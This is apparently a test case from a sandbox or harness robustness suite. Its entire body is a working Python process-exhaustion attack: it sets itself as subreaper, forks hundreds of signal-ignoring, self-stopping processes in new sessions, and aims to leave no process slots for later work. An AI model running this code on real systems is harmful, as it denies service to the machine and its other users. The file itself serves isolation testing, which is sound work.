# /// attack
# slow = true
# tries = "lets its processes die unmourned, stops the others, and forks within a session, a group and a subreaper of its own, until no process is left for the next part"
# fails = []
# keeps = ["gpt.load", "scan.tiled"]
# ///
import ctypes as _ctypes
import os as _os
import signal as _signal

_ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
try:
    for _n in range(300):
        if not _os.fork():
            if _n % 2:
                _os._exit(0)
            _os.setsid()
            for _number in range(1, 65):
                try:
                    _signal.signal(_number, _signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            try:
                _os.fork()
            except OSError:
                pass
            _os.kill(_os.getpid(), _signal.SIGSTOP)
            _os._exit(0)
except OSError as _error:
    print(_n, _error)
